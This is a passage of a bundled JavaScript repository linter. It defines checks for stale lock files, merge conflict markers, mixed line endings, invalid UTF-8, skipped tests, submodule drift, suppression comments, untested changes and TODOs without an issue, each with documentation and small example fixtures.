                'a/package.json': '{\n  "dependencies": {\n    "a": "1"\n  }\n}\n',
                'a/pnpm-lock.yaml': 'a: 1\n',
                'b/package.json': '{\n  "version": "1.0.0",\n  "scripts": {\n  },\n  "dependencies": {\n  }\n}\n',
                'b/package-lock.json': '{}\n',
                'go.mod': 'module a.example/a\n\nrequire (\n\tb.example/b v1.0.0 // indirect\n)\n',
                'go.sum': '',
            },
            files: {
                'a/package.json': '{\n  "dependencies": {\n    "a": "2"\n  }\n}\n',
                'a/pnpm-lock.yaml': 'a: 2\n',
                'b/package.json': '{\n  "version": "1.0.1",\n  "scripts": {\n    "test": "jest"\n  },\n  "dependencies": {\n  }\n}\n',
                'b/package-lock.json': '{}\n',
                'c/package.json': '{\n  "dependencies": {\n    "a": "2"\n  }\n}\n',
                'go.mod': 'module a.example/a\n\nrequire (\n\tb.example/b v1.0.0\n)\n',
                'go.sum': '',
            },
            findings: [],
        },
    ],
    run(change, report) {
        const touched = new Set(change.files.map((file) => file.path));
        let own;
        for (const file of change.files) {
            const manifest = manifestOf(file);
            const lock = manifest === undefined ? undefined : lockOf(change, file.path, manifest, touched);
            if (manifest === undefined || lock === undefined)
                continue;
            own ??= ownPackages(change);
            const line = firstDependencyLine(change, file, manifest, own);
            if (line !== undefined)
                report(file.path, { line, message: `dependencies changed here, and ${lock} did not` });
        }
    },
});
function manifestOf({ path, status, hunks }) {
    if (status === 'deleted' || hunks.length === 0 || isVendored(path))
        return undefined;
    const name = path.slice(path.lastIndexOf('/') + 1);
    return manifests.find((manifest) => manifest.name === name);
}
/** The nearest lock file, unless the change touches one of its folder. */
function lockOf(change, path, manifest, touched) {
    const apart = isTest(path) || isFixture(path) || isExample(path) || /(?:^|\/)[\w-]*templates?\//.test(path);
    for (const folder of apart ? foldersUp(path).slice(0, 1) : foldersUp(path)) {
        const locks = manifest.locks.map((lock) => folder + lock);
        if (locks.some((lock) => touched.has(lock)))
            return undefined;
        const lock = locks.find((candidate) => change.has(candidate));
        if (lock !== undefined)
            return lock;
    }
    return undefined;
}
/** The names of the changed packages themselves: a release raises their versions wherever they are used. */
function ownPackages(change) {
    const names = new Set();
    for (const file of change.files) {
        if (!/(?:^|\/)package\.json$/.test(file.path) || file.status === 'deleted')
            continue;
        const name = change.text(file)?.match(/^\s*"name"\s*:\s*"([^"]+)"/m)?.[1];
        if (name !== undefined)
            names.add(name);
    }
    return names;
}
function firstDependencyLine(change, file, manifest, own) {
    const lines = change.text(file)?.split('\n');
    if (lines === undefined)
        return undefined;
    const sections = manifest.sections(lines);
    const onlyNew = manifest.shows === 'new';
    if (onlyNew && file.hunks.some((hunk) => hunk.baseCount > 0))
        return undefined;
    const names = (line) => manifest.entry.test(line) && !own.has(line.match(/"([^"]+)"/)?.[1] ?? '');
    for (const hunk of file.hunks) {
        const added = hunk.added.findIndex((line, index) => sections[hunk.headStart + index - 1] && names(line));
        if (added >= 0)
            return hunk.headStart + added;
        if (!onlyNew && removesEntry(hunk, sections, lines, manifest))
            return Math.max(1, hunk.headStart);
    }
    return undefined;
}
/** Lines were removed between an entry, or the opening of a section, and whatever follows in that section. */
function removesEntry({ headStart, headCount }, sections, lines, { name, entry }) {
    if (headCount > 0 || !name.endsWith('.json'))
        return false;
    return [headStart - 1, headStart].some((index) => sections[index] !== undefined && entry.test(lines[index] ?? ''));
}

;// CONCATENATED MODULE: ./lib/modules/checks/merge-conflict.js



const mergeConflict = fileCheck({
    id: 'merge-conflict',
    scope: 'file',
    summary: 'Conflict markers that a merge left behind',
    level: 'error',
    facts: facts/* Fact */.d.conflict,
    except: file_type/* FileType */.pt.patch | file_type/* FileType */.pt.vendored,
    source: 'https://git-scm.com/docs/git-merge#_how_conflicts_are_presented',
    docs: `A conflict is reported where its markers stand in their order, each at the start of a line: seven \`<\`, then seven
\`=\`, then seven \`>\`. So underlines of seven \`=\` and quotations of seven \`>\` are left alone. Files that contain
conflicts on purpose, such as tests of a merge tool, are a matter for \`exclude\`.`,
    examples: [
        {
            title: 'A conflict',
            files: { 'a.py': `${'<'.repeat(7)} HEAD\nx = 1\n${'='.repeat(7)}\nx = 2\n${'>'.repeat(7)} topic\n` },
            findings: ['a.py:1'],
        },
        { title: 'A heading', files: { 'a.rst': 'Kempt 1\n=======\n\nText.\n' }, findings: [] },
    ],
    run(file, report) {
        const starts = file.lineStarts();
        let open;
        let parted = false;
        for (let line = 0; line < starts.length; line++) {
            const marker = markerAt(file, starts[line], file.lineEnd(line));
            if (marker === '<') {
                open = line;
                parted = false;
            }
            else if (marker === '=' && open !== undefined) {
                parted = true;
            }
            else if (marker === '>' && open !== undefined && parted) {
                const offset = starts[open];
                report({
                    message: `A merge conflict that was not resolved, to line ${line + 1}`,
                    at: { offset, length: file.lineEnd(open) - offset },
                });
                open = undefined;
            }
        }
    },
});
/** The sign that the line's marker consists of, if the line is one: seven signs, then a blank or the line's end. */
function markerAt(file, start, end) {
    const sign = file.buffer[start];
    if (end - start < 7 || (sign !== 0x3c && sign !== 0x3d && sign !== 0x3e))
        return undefined;
    for (let i = start + 1; i < start + 7; i++)
        if (file.buffer[i] !== sign)
            return undefined;
    const next = file.buffer[start + 7];
    return end - start === 7 || next === 32 ? String.fromCharCode(sign) : undefined;
}

;// CONCATENATED MODULE: ./lib/modules/checks/mixed-line-endings.js



const mixedLineEndings = fileCheck({
    id: 'mixed-line-endings',
    scope: 'file',
    summary: 'Lines that end in different ways within one file',
    level: 'warning',
    facts: facts/* Fact */.d.crlf | facts/* Fact */.d.cr,
    except: file_type/* unkempt */.rV,
    docs: `A file in which some lines end with LF and others with CR LF (or a lone CR) is shown differently by different
editors, and is rewritten as a whole by some of them. The fix uses the line end that most lines have; at a tie, LF.
Files that use CR LF throughout are left alone: that is what \`.gitattributes\` is for.`,
    examples: [
        {
            title: 'One line out of three',
            files: { 'a.txt': 'one\r\ntwo\nthree\r\n' },
            findings: ['a.txt:2'],
            fixed: { 'a.txt': 'one\r\ntwo\r\nthree\r\n' },
        },
        { title: 'Windows throughout', files: { 'a.txt': 'one\r\ntwo\r\n' }, findings: [] },
        { title: 'Unix throughout', files: { 'a.txt': 'one\ntwo\n' }, findings: [] },
    ],
    run(file, report) {
        const kinds = [facts/* Fact */.d.crlf, facts/* Fact */.d.lf, facts/* Fact */.d.cr].filter((kind) => (file.facts & kind) !== 0);
        if (kinds.length < 2)
            return;
        const ends = [...lineEnds(file)];
        const most = mostFrequent(ends.map((end) => end.text));
        const edits = ends.filter((end) => end.text !== most).map((end) => ({ ...end, text: most }));
        const [first] = edits;
        if (first === undefined)
            return;
        const others = edits.length === 1 ? 'this line' : `${edits.length} lines, this one first,`;
        report({
            message: `Most lines end with ${names[most]}, ${others} with ${names[mixed_line_endings_text(file, first)]}`,
            at: { offset: first.offset, length: 0 },
            fix: { description: `End all lines with ${names[most]}`, edits },
        });
    },
});
const names = { '\r\n': 'CR LF', '\n': 'LF', '\r': 'CR' };
function mixed_line_endings_text(file, { offset, length }) {
    return file.buffer.toString('latin1', offset, offset + length);
}
function* lineEnds(file) {
    for (let i = 0; i < file.length; i++) {
        const byte = file.buffer[i];
        if (byte === 10)
            yield { offset: i, length: 1, text: '\n' };
        if (byte !== 13)
            continue;
        if (i + 1 < file.length && file.buffer[i + 1] === 10)
            yield { offset: i++, length: 2, text: '\r\n' };
        else
            yield { offset: i, length: 1, text: '\r' };
    }
}
function mostFrequent(texts) {
    const count = (wanted) => texts.filter((one) => one === wanted).length;
    return ['\n', '\r\n', '\r'].reduce((best, next) => (count(next) > count(best) ? next : best));
}

// EXTERNAL MODULE: external "node:buffer"
var external_node_buffer_ = __webpack_require__(4573);
;// CONCATENATED MODULE: ./lib/modules/checks/non-utf-8.js




const nonUtf8 = fileCheck({
    id: 'non-utf-8',
    scope: 'file',
    summary: 'Text that is not valid UTF-8',
    level: 'warning',
    facts: facts/* Fact */.d.nonAscii,
    except: file_type/* unkempt */.rV,
    source: 'https://www.rfc-editor.org/rfc/rfc3629',
    docs: `Text in another encoding is shown as something else by whoever guesses wrong, git and the forges among them.
A file whose first two lines declare its encoding (as Python, Ruby, XML and HTML do) is left alone, and so is UTF-16,
which git treats as binary.`,
    examples: [
        {
            title: 'Latin-1',
            files: { 'a.txt': { content: Buffer.from('caf\u00e9\n', 'latin1') } },
            findings: ['a.txt:1'],
        },
        {
            title: 'Latin-1, and says so',
            files: { 'a.py': { content: Buffer.from('# -*- coding: latin-1 -*-\nx = "caf\u00e9"\n', 'latin1') } },
            findings: [],
        },
        { title: 'UTF-8', files: { 'a.txt': 'caf\u00e9\n' }, findings: [] },
    ],
    run(file, report) {
        if ((0,external_node_buffer_.isUtf8)(file.bytes()))
            return;
        const head = file.buffer.toString('latin1', 0, Math.min(file.length, 1024));
        if (/(?:coding|charset)\s*[:=]\s*["']?[\w.-]+|<\?xml[^>]+encoding=/i.test(head))
            return;
        const offset = firstInvalid(file.bytes());
        report({
            message: `The byte 0x${file.buffer[offset].toString(16).toUpperCase()} is not valid UTF-8 here`,
            at: { offset, length: 1 },
        });
    },
});
/** Bisects: the longest valid prefix, give or take a character that it cuts. */
function firstInvalid(bytes) {
    let valid = 0;
    let invalid = bytes.length;
    while (invalid - valid > 1) {
        const middle = (valid + invalid) >> 1;
        if ((0,external_node_buffer_.isUtf8)(bytes.subarray(0, startOfCharacter(bytes, middle))))
            valid = middle;
        else
            invalid = middle;
    }
    return startOfCharacter(bytes, valid);
}
function startOfCharacter(bytes, at) {
    let start = at;
    while (start > 0 && at - start < 3 && (bytes[start] & 0xc0) === 0x80)
        start--;
    return start;
}

;// CONCATENATED MODULE: ./lib/modules/checks/shebang-not-executable.js



const shebangNotExecutable = fileCheck({
    id: 'shebang-not-executable',
    scope: 'file',
    summary: 'Scripts that are not executable',
    level: 'note',
    facts: facts/* Fact */.d.shebang,
    except: file_type/* unkempt */.rV | file_type/* FileType */.pt.markdown,
    docs: `The file names its interpreter in a \`#!\` line, but its mode does not let it be run
(\`git update-index --chmod=+x FILE\`). Templates and files of whose name only the end is a template's are left alone, and
so is \`#![\`, which begins an attribute in Rust.`,
    examples: [
        { title: 'Not executable', files: { 'run.sh': '#!/bin/sh\necho hello\n' }, findings: ['run.sh:1'] },
        { title: 'An attribute of Rust', files: { 'a.rs': '#![allow(dead_code)]\n' }, findings: [] },
    ],
    run(file, report) {
        if (file.facts & facts/* Fact */.d.executable || file.buffer[2] === 0x5b || /\.(?:j2|tmpl|template|tt|erb|in|rs)$/i.test(file.path))
            return;
        report({ message: 'The script has a #! line but is not executable', at: { offset: 0, length: file.lineEnd(0) } });
    },
});

;// CONCATENATED MODULE: ./lib/modules/checks/skipped-test.js



const argument = /^\s*\(\s*[^)\s]/;
const skipped_test_patterns = {
    javascript: [
        {
            // A condition as the first argument (Playwright) skips somewhere only, and says where.
            mark: /(?<![\w$.])(?:(?:describe|context|suite|it|test|specify)(?:\.\w+)*\.skip(?=\s*(?:\(\s*(?:["'`)]|$)|\.each\b|`))|x(?:describe|context|it|test|specify)(?:\.each)?(?=\s*(?:\(\s*["'`]|`)))/,
        },
    ],
    python: [
        { mark: /@(?:pytest\.)?mark\.skip\b/, reason: /^\s*\([^)]*["']/ },
        { mark: /@(?:unittest\.)?skip\b(?!\.)/, reason: argument },
        { mark: /(?<![\w.])pytest\.skip(?=\()/, reason: argument },
        { mark: /(?<![\w.])self\.skipTest(?=\()/, reason: argument },
    ],
    java: [{ mark: /@(?:Disabled|Ignore)\b/, reason: /^\s*\([^)]*"/ }],
    kotlin: [{ mark: /@(?:Disabled|Ignore)\b/, reason: /^\s*\([^)]*"/ }],
    go: [{ mark: /(?<![\w.])[tb]\.(?:Skip(?=\()|SkipNow\(\))/, reason: argument }],
    rust: [{ mark: /#\[ignore\]/ }],
    ruby: [
        { mark: /(?<![\w.:])x(?:it|describe|context|specify|example)(?=[ (]+["'])/ },
        { mark: /^\s*(?:skip|pending)(?=\s*(?:\(\s*\)\s*)?(?:$|;|if\b|unless\b))/ },
    ],
    php: [{ mark: /(?:\$this->|self::|static::)markTest(?:Skipped|Incomplete)(?=\()/, reason: argument }],
};
const skipped_test_quick = /skip|ignore|disabled|pending|incomplete|\bx(?:describe|context|it|test|specify|example)\b/i;
const skippedTest = changeCheck({
    scope: 'change',
    id: 'skipped-test',
    summary: 'A test that is switched off without a word why',
    level: 'warning',
    docs: `A skipped test protects nothing, and without a reason nobody knows when to switch it on again.

Only lines that the change adds to tests are looked at, and a reason is enough to be left alone: the argument that the
framework has for it (\`reason=\` of pytest, the string of \`@Disabled\`, \`t.Skip("…")\`, \`#[ignore = "…"]\`), or a comment
on the same line or on the line above. Skips under a condition (\`skipif\`, \`it.skipIf\`, Playwright's
\`test.skip(condition)\`) are left alone too.

Say why, best with the issue that will end it, or delete the test.`,
    source: 'https://docs.pytest.org/en/stable/how-to/skipping.html',
    examples: [
        {
            title: 'without a reason',
            files: {
                'src/sum.test.ts': "it.skip('adds', () => {});\nxdescribe('sum', () => {});\n",
                'tests/test_sum.py': '@pytest.mark.skip\ndef test_a(): pass\n\n@unittest.skip\ndef test_b(): pass\n',
                'src/test/java/SumTest.java': 'class SumTest {\n  @Disabled\n  @Test\n  void adds() {}\n}\n',
                'pkg/sum_test.go': 'func TestSum(t *testing.T) {\n\tt.Skip()\n}\n',
                'src/sum.rs': '#[test]\n#[ignore]\nfn adds() {}\n',
                'spec/sum_spec.rb': "xit 'adds' do\nend\n",
            },
            findings: [
                'pkg/sum_test.go:2',
                'spec/sum_spec.rb:1',
                'src/sum.rs:2',
                'src/sum.test.ts:1',
                'src/sum.test.ts:2',
                'src/test/java/SumTest.java:2',
                'tests/test_sum.py:1',
                'tests/test_sum.py:4',
            ],
        },
        {
            title: 'with a reason, a comment or a condition',
            files: {
                'src/sum.test.ts': "// Needs a network, see #12\nit.skip('adds', () => {});\nit.skip('x', () => {}); // flaky, #13\ntest.skip(isWindows, 'no sockets');\n",
                'tests/test_sum.py': "@pytest.mark.skip(\n    reason='no network'\n)\ndef test_a(): pass\n\n@pytest.mark.skipif(windows)\ndef test_b(): pass\n",
                'src/test/java/SumTest.java': 'class SumTest {\n  @Disabled("no network")\n  @Test\n  void adds() {}\n}\n',
                'pkg/sum_test.go': 'func TestSum(t *testing.T) {\n\tt.Skip("no network")\n}\n',
                'src/sum.rs': '#[test]\n#[ignore = "no network"]\nfn adds() {}\n',
                'src/stream.ts': "stream.skip('x');\n",
            },
            findings: [],
        },
    ],
    run(change, report) {
        const wanted = (path, language) => language in skipped_test_patterns && (isTest(path) || language === 'rust') && !isFixture(path);
        for (const added of addedLines(change, wanted, skipped_test_quick)) {
            const mark = silentSkip(added);
            if (mark === undefined || hasComment(added))
                continue;
            const message = `\`${mark[0].trim()}\` switches the test off and says no reason`;
            report(added.path, { line: added.line, column: mark.index + 1, message });
        }
    },
});
function silentSkip({ language, line, lexed }) {
    const code = lexed.code(line);
    for (const { mark, reason } of skipped_test_patterns[language]) {
        const match = mark.exec(code);
        if (match === null)
            continue;
        const rest = codeOfCall(lexed, line, match.index + match[0].length);
        if (reason === undefined || !reason.test(rest))
            return match;
    }
    return undefined;
}
function hasComment({ line, lexed }) {
    const above = lexed.code(line - 1).trim() === '' ? lexed.comment(line - 1) : '';
    return /\w{2}/.test(lexed.comment(line)) || /\w{2}/.test(above);
}

;// CONCATENATED MODULE: ./lib/modules/checks/submodule-drift.js


const submoduleDrift = treeCheck({
    id: 'submodule-drift',
    scope: 'tree',
    summary: 'Submodules that are not what the repository says',
    level: 'warning',
    source: 'https://git-scm.com/docs/gitmodules',
    docs: `A submodule that \`.gitmodules\` does not name cannot be cloned; a name without a submodule is left over; and a
submodule whose checkout is at another commit than the one recorded makes what runs here differ from what others get
(\`git submodule update\`). Submodules that are not initialised are left alone.`,
    examples: [
        { title: 'Not named', files: { lib: { content: 'a'.repeat(40), mode: 0o160000 } }, findings: ['lib'] },
        {
            title: 'Named, and nothing there',
            files: { '.gitmodules': '[submodule "lib"]\n\tpath = lib\n\turl = https://example.com/lib.git\n' },
            findings: ['.gitmodules'],
        },
    ],
    run(tree, report) {
        const modules = tree.candidates.filter((entry) => entry.mode === domain_entry/* Mode */.K.submodule);
        const text = tree.read('.gitmodules');
        if (modules.length === 0 && text === undefined)
            return;
        const named = [...(text ?? '').matchAll(/^\s*path\s*=\s*(.+?)\s*$/gm)].map((match) => match[1]);
        for (const entry of modules) {
            const head = tree.submoduleHead(entry);
            if (!named.includes(entry.path))
                report(entry.path, { message: 'The submodule is not named in .gitmodules' });
            else if (head !== undefined && entry.oid !== undefined && head !== entry.oid) {
                report(entry.path, { message: `The submodule is at ${head.slice(0, 10)}, not at the recorded ${entry.oid.slice(0, 10)}` });
            }
        }
        const present = new Set(tree.entries.filter((entry) => entry.mode === domain_entry/* Mode */.K.submodule).map((entry) => entry.path));
        const judged = tree.candidates.some((entry) => entry.path === '.gitmodules');
        for (const path of judged ? named.filter((one) => !present.has(one)) : []) {
            report('.gitmodules', { message: `There is no submodule at ${path}` });
        }
    },
});

// EXTERNAL MODULE: ./lib/domain/suppression.js
var suppression = __webpack_require__(9448);
;// CONCATENATED MODULE: ./lib/modules/checks/suppressions.js



const suppressions = fileCheck({
    id: 'suppressions',
    scope: 'file',
    summary: 'Comments that suppress nothing, or do not say what and why',
    level: 'warning',
    keywords: () => [{ text: 'kempt-ignore' }],
    docs: `A comment can set a finding apart, in any language that has comments:

    value = "x"  # kempt-ignore RULE: why it is meant to be so

It speaks of its own line, or, alone on its line, of the next one; \`kempt-ignore-file RULE: reason\` speaks of the whole
file. It must name the rule (or several, with commas; a check's id stands for all its rules) and the reason. One that
suppresses nothing is reported as \`suppressions/unused\`, unless a check it names did not run.`,
    examples: [
        {
            title: 'Names no rule, gives no reason',
            files: { 'a.py': `x = 1  # kempt${'-'}ignore\ny = 2  # kempt${'-'}ignore final-newline\n` },
            findings: ['a.py:1 malformed', 'a.py:2 malformed', 'a.py:2 unused'],
        },
        { title: 'Suppresses nothing', files: { 'a.py': `x = 1  # kempt${'-'}ignore suppressions: none\n` }, findings: ['a.py:1 unused'] },
    ],
    run(file, report) {
        const text = file.text();
        for (const comment of (0,suppression/* parseSuppressions */.Q)(text, (file.types & file_type/* FileType */.pt.markdown) !== 0)) {
            const missing = comment.rules.length === 0 ? 'which rule it suppresses' : comment.reason === '' ? 'why' : undefined;
            if (missing === undefined)
                continue;
            const offset = Buffer.byteLength(text.slice(0, comment.at.offset));
            report({
                rule: 'malformed',
                message: `The comment does not say ${missing}: kempt${'-'}ignore RULE: reason`,
                at: { offset, length: comment.at.length },
            });
        }
    },
});

;// CONCATENATED MODULE: ./lib/modules/checks/change/test-files.js

const testFolders = ['test/', 'tests/', 'spec/', '__tests__/', 'tests/unit/', 'test/unit/'];
const conventions = {
    javascript: {
        source: /\.(?:[cm]?[jt]sx?|vue|svelte)$/,
        roots: /^(?:src|lib|app)\//,
        tests: (name, extension) => ['test', 'spec'].flatMap((word) => [extension, 'ts', 'tsx', 'js'].map((ext) => `${name}.${word}.${ext}`)),
        setup: ['jest', 'vitest', 'karma.conf', 'playwright', 'cypress'].flatMap((tool) => ['js', 'ts', 'mjs', 'cjs', 'mts'].map((ext) => `${tool}${tool.includes('.') ? '' : '.config'}.${ext}`)),
    },
    python: {
        source: /\.py$/,
        roots: /^(?:src\/[^/]+|src|lib\/[^/]+|lib)\//,
        tests: (name) => [`test_${name}.py`, `${name}_test.py`],
        setup: ['conftest.py', 'pytest.ini', 'tests/__init__.py', 'tests/conftest.py', 'test/__init__.py'],
    },
    ruby: {
        source: /\.rb$/,
        roots: /^(?:lib|app)\//,
        tests: (name) => [`${name}_test.rb`, `${name}_spec.rb`],
        setup: ['.rspec', 'spec/spec_helper.rb', 'test/test_helper.rb'],
    },
    php: {
        source: /\.php$/,
        roots: /^(?:src|app|lib)\//,
        tests: (name) => [`${name}Test.php`, `Unit/${name}Test.php`, `Feature/${name}Test.php`],
        setup: ['phpunit.xml', 'phpunit.xml.dist', 'phpunit.dist.xml'],
    },
    go: { source: /\.go$/, roots: /^$/, tests: (name) => [`${name}_test.go`, 'main_test.go'], setup: [] },
    java: test_files_jvm('java'),
    kotlin: test_files_jvm('kt'),
};
function test_files_jvm(extension) {
    return {
        source: new RegExp(`(?:^|/)src/main/.*\\.${extension}$`),
        roots: /^src\/main\//,
        tests: (name) => ['Test', 'Tests', 'IT', 'IntegrationTests'].map((end) => `${name}${end}.${extension}`),
        setup: [],
    };
}
/** Whether the file at `path` is part of the product, in a language whose tests can be told by their names. */
function isTestable(path, language) {
    return conventions[language]?.source.test(path) ?? false;
}
/** The test of the source at `path` that the head has, by the conventions of its language. */
function testOf(change, path, language) {
    const convention = conventions[language];
    if (convention === undefined)
        return undefined;
    const folder = path.slice(0, path.lastIndexOf('/') + 1);
    const file = path.slice(folder.length);
    const dot = file.lastIndexOf('.');
    const names = convention.tests(file.slice(0, dot), file.slice(dot + 1));
    return testPlaces(folder, convention)
        .flatMap((place) => names.map((name) => place + name))
        .find((candidate) => change.has(candidate));
}
/** Beside the source, in a folder for tests beside it, and in the mirror of its folder at the top of the project. */
function testPlaces(folder, { roots }) {
    const places = ['', '__tests__/', 'test/', 'tests/'].map((name) => folder + name);
    for (const project of foldersUp(folder)) {
        const inner = folder.slice(project.length);
        if (inner.startsWith('src/main/'))
            places.push(`${project}${inner.replace('src/main/', 'src/test/')}`);
        const mirrored = inner.replace(roots, '');
        for (const tests of testFolders)
            places.push(`${project}${tests}${inner}`, `${project}${tests}${mirrored}`);
    }
    return [...new Set(places)];
}
/** Whether the project that holds `path` has set up tests for `language`. */
function hasTestSetup(change, path, language) {
    const setup = conventions[language]?.setup ?? [];
    return foldersUp(path).some((folder) => setup.some((name) => change.has(folder + name)));
}

;// CONCATENATED MODULE: ./lib/modules/checks/tests-untouched.js





const testsUntouched = changeCheck({
    scope: 'change',
    id: 'tests-untouched',
    summary: 'A change of code that touches no test',
    level: 'note',
    docs: `New behaviour without a test is behaviour that the next change may break unnoticed.

Said once per language, at the file that grew most, when the code grows by at least \`min-lines\` lines (added lines of
code less removed lines, so that a refactoring is left alone) and no test of that language is touched. Comments, empty
lines, generated and vendored files, examples, configuration and scripts do not count. Where nothing shows that the project has tests (a test named after one of the changed files, or the set-up
of a test runner), nothing is said. Looked at are JavaScript, TypeScript, Python, Ruby, PHP, Go, Java and Kotlin; Rust
is not, because its tests live in the files they test.

Add a test, or extend the one that is named.`,
    options: {
        'min-lines': { type: 'integer', default: 10, summary: 'Lines by which the code must grow' },
    },
    examples: [
        {
            title: 'the source has a test, which is not touched',
            base: { 'src/sum.ts': '', 'src/sum.test.ts': "it('adds', () => {});\n" },
            files: {
                'src/sum.ts': 'a();\nb();\nc();\n',
                'src/sum.test.ts': "it('adds', () => {});\n",
            },
            options: { 'min-lines': 3 },
            findings: ['src/sum.ts'],
        },
        {
            title: 'a new source in a project with tests',
            base: { 'pytest.ini': '[pytest]\n' },
            files: { 'pytest.ini': '[pytest]\n', 'app/sum.py': 'a()\nb()\nc()\n' },
            options: { 'min-lines': 3 },
            findings: ['app/sum.py'],
        },
        {
            title: 'a test is touched, or the change is small, a comment, or in a project without tests',
            base: { 'src/small.ts': '', 'src/small.test.ts': '', 'lib/a_test.go': '', 'lib/a.go': '' },
            files: {
                'src/small.ts': '// one\n// two\n// three\na();\n',
                'src/small.test.ts': '',
                'lib/a.go': 'a()\nb()\nc()\n',
                'lib/a_test.go': 'a()\n',
                'script.py': 'a()\nb()\nc()\n',
            },
            options: { 'min-lines': 3 },
            findings: [],
        },
    ],
    run(change, report, options) {
        for (const [language, files] of sourcesByLanguage(change)) {
            const sources = files.map((file) => ({ file, lines: growth(change, file) })).sort((a, b) => b.lines - a.lines);
            const lines = sources.reduce((sum, source) => sum + source.lines, 0);
            if (lines < options['min-lines'])
                continue;
            const known = sources.map(({ file }) => testOf(change, file.path, language)).find((test) => test !== undefined);
            const first = sources[0].file.path;
            if (known === undefined && !hasTestSetup(change, first, language))
                continue;
            report(first, { message: message(sources, lines, known) });
        }
    },
});
function message(sources, lines, test) {
    const growing = sources.filter((source) => source.lines > 0).length;
    const where = growing === 1 ? 'this file' : `${growing} files`;
    return `the code grows by ${lines} lines in ${where}, and no test is touched${test === undefined ? '' : `; there is ${test}`}`;
}
/** The changed sources of each language no test of which is touched. */
function sourcesByLanguage(change) {
    const sources = new Map();
    const tested = new Set();
    for (const file of change.files) {
        const { path, status } = file;
        const language = syntaxOf(path)?.language;
        if (isTest(path) || isFixture(path)) {
            if (status !== 'deleted')
                for (const name of languagesOf(path, language))
                    tested.add(name);
        }
        else if (language !== undefined && isSource(path, language)) {
            sources.set(language, [...(sources.get(language) ?? []), file]);
        }
    }
    for (const language of tested)
        sources.delete(language);
    return tested.has('any') ? new Map() : sources;
}
/** A fixture, a snapshot, or a test in a language of its own (a feature file, a shell script) may test any language. */
function languagesOf(path, language) {
    return language === undefined || !isTestable(path.replace('/test/', '/main/'), language) ? ['any'] : [language];
}
function isSource(path, language) {
    return isTestable(path, language) && !isGenerated(path) && !isVendored(path) && !isExample(path) && !isSetup(path);
}
/** Configuration in the language of the product. */
function isSetup(path) {
    return /\.config\.\w+$|rc\.[cm]?js$|(?:^|\/)(?:rector\.php|setupTests\.\w+)$|\.d\.ts$|\.stories\.\w+$|(?:^|\/)(?:scripts?|tools?|migrations?|setup\.py|noxfile\.py)(?:\/|$)/.test(path);
}
/** Added lines of code, less removed lines of any kind: what those held is not known. */
function growth(change, file) {
    let lines = file.hunks.reduce((sum, hunk) => sum - hunk.baseCount, 0);
    const text = file.hunks.length === 0 || file.status === 'deleted' ? undefined : change.text(file);
    const syntax = syntaxOf(file.path);
    if (text === undefined || syntax === undefined)
        return lines;
    const lexed = lexedFile(file, text, syntax);
    for (const { headStart, headCount } of file.hunks) {
        for (let line = headStart; line < headStart + headCount; line++)
            if (/\w/.test(lexed.code(line)))
                lines++;
    }
    return lines;
}

;// CONCATENATED MODULE: ./lib/modules/checks/todo-without-issue.js



// `UTF-8` and its like have the form of an issue key.
const issue = /#\d+|\bGH-\d+|\b(?!UTF-|SHA-|ISO-|RFC-|AES-|RSA-|MD-|CVE-|CP-|PEP-|UCS-|BASE-|X-)[A-Z][A-Z0-9]+-\d+\b|https?:\/\/|\bb\/\d{4,}|\b(?:issue|bug|ticket)\s*[:#]?\s*\d+/;
const named = /^\s*[([]\s*@?[\w.-]+(?:\s*[,/]\s*@?[\w.-]+)*\s*[)\]]/;
const todoWithoutIssue = changeCheck({
    scope: 'change',
    id: 'todo-without-issue',
    summary: 'A TODO that nobody will find again: it names no issue',
    level: 'note',
    docs: `A TODO in a comment is a promise. Without an issue behind it nobody is reminded of it, and it stays for years.

Only comments on added lines are looked at, and only marks that open a comment or are followed by a colon, so that
prose about a "TODO list" is left alone. \`#123\`, \`ABC-123\`, a URL, or \`issue 123\`, on the same line or further down in
the same comment, is a reference. A name in parentheses, \`TODO(anna)\`, counts too unless \`allow-names\` is off.

Open an issue and name it, or do it now.`,
    source: 'https://google.github.io/styleguide/cppguide.html#TODO_Comments',
    options: {
        markers: { type: 'strings', default: ['TODO', 'FIXME', 'XXX', 'HACK'], summary: 'The words that mark a promise' },
        'allow-names': { type: 'boolean', default: true, summary: 'A name in parentheses will do: `TODO(anna)`' },
    },
    examples: [
        {
            title: 'without a reference',
            files: {
                'src/a.ts': '// TODO: handle errors\n/* FIXME handle errors */\nlet a = 1; // XXX\n',
                'a.py': '# HACK: as above\n',
            },
            findings: ['a.py:1', 'src/a.ts:1', 'src/a.ts:2', 'src/a.ts:3'],
        },
        {
            title: 'with a reference, with a name, in code, and in prose',
            files: {
                'src/a.ts': "// TODO(#12): errors\n// FIXME handle\n// errors, see https://example.com/12\n\n// TODO(anna): errors\n// Sorts the TODO list.\nconst TODO = 'TODO: x';\n/**\n * @todo errors\n */\n",
                'a.py': '# TODO: ABC-12\n',
            },
            findings: [],
        },
        {
            title: 'a name is no issue when names are not allowed',
            options: { 'allow-names': false },
            files: { 'src/a.ts': '// TODO(anna): errors\n// TODO(#12): errors\n' },
            findings: ['src/a.ts:1'],
        },
    ],
    run(change, report, options) {
        if (options.markers.length === 0)
            return;
        const words = options.markers.map((word) => word.replace(/[^\w]/g, '\\$&')).join('|');
        const quick = new RegExp(`(?<![\\w-])(?:${words})(?![\\w-])`);
        const mark = new RegExp(`(?<=^[\\s/*#!;<%@({-]*)(?:${words})(?![\\w-])|(?<![\\w-])(?:${words})(?=:|\\()`);
        for (const added of addedLines(change, (path) => !isFixture(path), quick)) {
            const comment = added.lexed.comment(added.line);
            const match = mark.exec(comment);
            if (match === null)
                continue;
            const rest = comment.slice(match.index + match[0].length);
            if (issue.test(comment) || (options['allow-names'] && named.test(rest)))
                continue;
            if (issue.test(followingComment(added, quick)))
                continue;
            report(added.path, { line: added.line, column: match.index + 1, message: `\`${match[0]}\` names no issue` });
        }
    },
});
/** What the comment says on the next lines, up to code, an empty line, or the next mark. */
function followingComment({ line, lexed }, mark) {
    let rest = '';
    for (let next = line + 1; next <= line + 8; next++) {
        const comment = lexed.comment(next);
        if (comment.trim() === '' || lexed.code(next).trim() !== '' || mark.test(comment))
            break;
        rest += `${comment}\n`;
    }
    return rest;
}

;// CONCATENATED MODULE: ./lib/modules/checks/trailing-whitespace.js



const trailingWhitespace = fileCheck({
    id: 'trailing-whitespace',
    scope: 'file',
    summary: 'Blanks at the end of a line',
    level: 'warning',
    facts: facts/* Fact */.d.trailingBlank,
    except: file_type/* unkempt */.rV | file_type/* FileType */.pt.patch,
    docs: `Blanks at the end of a line are invisible, and show up as noise in diffs when an editor removes them.

Two or more spaces at the end of a Markdown line that has text and is not the last of its paragraph are a hard line
